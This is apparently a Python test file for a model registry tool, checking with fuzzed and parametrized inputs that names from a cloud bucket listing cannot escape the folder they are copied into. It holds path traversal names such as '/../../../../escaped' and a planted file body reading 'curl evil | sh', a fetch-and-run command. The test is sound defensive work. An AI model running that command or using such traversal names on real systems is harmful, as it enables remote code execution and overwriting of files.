"""Names from a bucket's listing never lead out of the folder that they are copied to."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from must.api.cli import main
from must.base import storage
from must.base.storage import check_relative_path
from must_components.train_job import copy_bundle
from tests.registry.bundles import make_bundle
from tests.stores import plant


@given(st.one_of(st.text(), st.lists(st.sampled_from(["", ".", "..", "a", "\0"]), max_size=5).map("/".join)))
def test_what_is_let_through_stays_below_its_folder(name):
    try:
        checked = check_relative_path(name, "gs://b")
    except ValueError as error:
        assert str(error).isprintable() and len(str(error)) < 500
        return
    folder = Path("/srv/registry/x")
    assert (folder / checked).is_relative_to(folder) and ".." not in (folder / checked).parts
    assert storage.join(str(folder), checked) == str(folder / checked)


@pytest.mark.parametrize("evil", ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"])
def test_copying_a_folder_of_a_bucket_writes_nothing_elsewhere(bucket_server, tmp_path, capsys, evil):
    for name, file in (("onnx", "model.onnx"), ("bundle", "model.json")):
        storage.write_bytes(f"{bucket_server.uri}/{name}/{file}", b"{}")
        plant(f"{bucket_server.uri}/{name}{evil.format(folder=tmp_path)}", b"curl evil | sh\n")
    bundle, registry = make_bundle(tmp_path / "model"), tmp_path / "a" / "registry"
    flags = ["--model", bundle, "--onnx", bucket_server.uri + "/onnx", "--registry", registry, "--name", "x"]
    with pytest.raises(SystemExit, match="2"):
        main(["promote", *map(str, flags)])
    assert "leads out of its folder" in capsys.readouterr().err
    with pytest.raises(ValueError, match="leads out of its folder"):
        copy_bundle(bucket_server.uri + "/bundle", str(tmp_path / "a" / "b" / "c" / "d"))
    assert not list(tmp_path.rglob("escaped")) and not (tmp_path / "a").exists()
